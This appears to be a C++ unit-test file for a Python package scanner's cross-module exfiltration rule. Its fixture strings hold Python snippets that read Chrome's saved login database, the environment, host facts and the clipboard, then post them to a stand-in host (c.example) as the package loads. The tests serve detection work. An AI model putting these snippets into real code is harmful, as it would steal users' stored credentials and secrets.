// Package-level flows: one module gathers secrets, another sends them out.
// One-line tests over synthetic wheels scanned by the whole rule set.
#include "analysis/package_flow.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analysis/scanner.h"
#include "support/python_rules.h"
#include "support/test_archives.h"

namespace pyward {
namespace {

using testing::File;

// The package-exfiltration finding of a wheel holding `files` (under p/),
// or nullptr; *all gets every finding for messages.
std::vector<Finding> ScanWheel(std::vector<std::pair<std::string, std::string>> files) {
  std::vector<testing::Entry> members;
  for (auto& [path, text] : files) members.push_back(File("p/" + path, text));
  members.push_back(File("p-1.0.dist-info/METADATA", "Name: p\nVersion: 1.0\n"));
  Scanner scanner(&testing::Rules(), {});
  std::string whl = testing::MakeZip(members);
  return scanner.ScanBytes("p-1.0-py3-none-any.whl", "p-1.0-py3-none-any.whl", whl).findings;
}

std::string Severity(std::vector<std::pair<std::string, std::string>> files) {
  std::vector<Finding> fs = ScanWheel(std::move(files));
  const Finding* f = testing::Find(fs, "package-exfiltration");
  return f ? std::string(SeverityName(f->severity)) : "none";
}

const char kGrab[] =
    "import os\n"
    "def stores():\n"
    "    home = os.path.expanduser('~')\n"
    "    return open(home + '/AppData/Local/Google/Chrome/User Data/Default/Login Data', 'rb').read()\n";
const char kEnvGrab[] = "import os\nSNAPSHOT = dict(os.environ)\n";
const char kApiKey[] = "import os\ndef key():\n    return os.getenv('SERVICE_API_KEY')\n";

TEST(PackageFlow, ImportTimeSendOfAStoreAnotherModuleReads) {
  EXPECT_EQ(Severity({{"grab.py", kGrab},
                      {"__init__.py", "import requests\nfrom .grab import stores\n"
                                      "requests.post('https://c.example/u', data=stores())\n"}}),
            "critical");
}
// The secret-naming strings are found by the behaviour check in a module
// with a sink of its own (a process here) and handed on to the summary,
// by the summary itself in a module without one: both ways gather.
TEST(PackageFlow, GatheringModuleWithASinkOfItsOwn) {
  std::string grab =
      std::string(kGrab) + "import subprocess\ndef ls():\n    subprocess.run(['ls'])\n";
  EXPECT_EQ(Severity({{"grab.py", grab},
                      {"__init__.py", "import requests\nfrom .grab import stores\n"
                                      "requests.post('https://c.example/u', data=stores())\n"}}),
            "critical");
}
TEST(PackageFlow, SendInAFunctionModuleLevelCodeCalls) {
  EXPECT_EQ(Severity({{"grab.py", kGrab},
                      {"__init__.py", "import requests\nfrom p import grab\n"
                                      "def go():\n    d = grab.stores()\n"
                                      "    requests.post('https://c.example/u', data=d)\ngo()\n"}}),
            "critical");
}
TEST(PackageFlow, RuntimeFunctionIsHigh) {
  EXPECT_EQ(Severity({{"grab.py", kGrab},
                      {"cli.py", "import requests\nfrom .grab import stores\n"
                                 "def main():\n    requests.post('https://c.example/u', data=stores())\n"}}),
            "high");
}
TEST(PackageFlow, ModuleLevelSnapshotOfTheEnvironment) {
  EXPECT_EQ(Severity({{"snap.py", kEnvGrab},
                      {"__init__.py", "import json, urllib.request, requests\nfrom .snap import SNAPSHOT\n"
                                      "requests.post('https://c.example/e', json=SNAPSHOT)\n"}}),
            "critical");
}
TEST(PackageFlow, HelperThatCallsTheGatheringFunction) {
  EXPECT_EQ(Severity({{"grab.py", std::string(kGrab) + "def everything():\n    return [stores()]\n"},
                      {"__init__.py", "import requests\nfrom .grab import everything\n"
                                      "requests.post('https://c.example/u', json=everything())\n"}}),
            "critical");
}
TEST(PackageFlow, ClassThatGathers) {
  EXPECT_EQ(Severity({{"steal.py", "import pyperclip\nclass Clip:\n    def get(self):\n"
                                   "        return pyperclip.paste()\n"},
                      {"__init__.py", "import requests\nfrom .steal import Clip\n"
                                      "requests.post('https://c.example/c', data=Clip().get())\n"}}),
            "critical");
}
const char kFacts[] =
    "import socket, getpass, os\n"
    "def facts():\n    return {'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()}\n";
TEST(PackageFlow, HostFactsSentAsThePackageLoads) {
  EXPECT_EQ(Severity({{"info.py", kFacts},
                      {"__init__.py", "import requests\nfrom .info import facts\n"
                                      "requests.post('https://c.example/b', json=facts())\n"}}),
            "critical");
}
TEST(PackageFlow, HostFactsSentLaterAreTelemetry) {
  EXPECT_EQ(Severity({{"info.py", kFacts},
                      {"__init__.py", "import requests\nfrom .info import facts\n"
                                      "def report():\n"
                                      "    requests.post('https://c.example/b', json=facts())\n"}}),
            "none");
}
TEST(PackageFlow, OneHostFactIsNotGathering) {
  EXPECT_EQ(Severity({{"info.py", "import socket, os\ndef facts():\n"
                                  "    return {'h': socket.gethostname(), 'd': os.getcwd()}\n"},
                      {"__init__.py", "import requests\nfrom .info import facts\n"
                                      "requests.post('https://c.example/b', json=facts())\n"}}),
            "none");
}
TEST(PackageFlow, OneApiKeyFromTheEnvironmentIsNotGathering) {
  EXPECT_EQ(Severity({{"conf.py", kApiKey},
                      {"__init__.py", "import requests\nfrom .conf import key\n"
                                      "requests.post('https://api.example/v1', headers={'k': key()})\n"}}),
            "none");
}
TEST(PackageFlow, SettingsReadFromTheEnvironmentAreNotGathering) {
  EXPECT_EQ(Severity({{"config.py", "import os, configparser\ndef load():\n"
                                    "    return configparser.ConfigParser(os.environ)\n"},
                      {"__init__.py", "import requests\nfrom .config import load\n"
                                      "requests.post(load().get('a', 'url'), data='x')\n"}}),
            "none");
}
TEST(PackageFlow, SenderThatDoesNotUseTheGatheringModule) {
  EXPECT_EQ(Severity({{"grab.py", kGrab},
                      {"__init__.py", "import requests\nfrom .util import fmt\n"
                                      "requests.post('https://c.example/u', data=fmt())\n"},
                      {"util.py", "def fmt():\n    return 'x'\n"}}),
            "none");
}
TEST(PackageFlow, ClipboardWriteIsNotGathering) {
  EXPECT_EQ(Severity({{"clip.py", "import pyperclip\ndef put(t):\n    pyperclip.copy(t)\n"},
                      {"__init__.py", "import requests\nfrom .clip import put\n"
                                      "put(requests.post('https://c.example/u', data='x').text)\n"}}),
            "none");
}
TEST(PackageFlow, SameModuleIsLeftToTheModuleFlows) {
  EXPECT_EQ(Severity({{"__init__.py", std::string(kGrab) +
                                          "import requests\nrequests.post('https://c.example/u', "
                                          "data=stores())\n"}}),
            "none");
}
TEST(PackageFlow, TestsDoNotSend) {
  EXPECT_EQ(Severity({{"grab.py", kGrab},
                      {"tests/test_grab.py", "import requests\nfrom p.grab import stores\n"
                                             "requests.post('https://c.example/u', data=stores())\n"}}),
            "none");
}
TEST(PackageFlow, FindingNamesBothFiles) {
  std::vector<Finding> fs = ScanWheel({{"grab.py", kGrab},
                                       {"__init__.py", "import requests\nfrom .grab import stores\n"
                                                       "requests.post('https://c.example/u', data=stores())\n"}});
  const Finding* f = testing::Find(fs, "package-exfiltration");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->file, "p/__init__.py");
  EXPECT_EQ(f->line, 3);
  EXPECT_NE(f->message.find("grab.py"), std::string::npos) << f->message;
  EXPECT_NE(f->message.find("p.grab.stores -> requests.post"), std::string::npos) << f->message;
}

}  // namespace
}  // namespace pyward
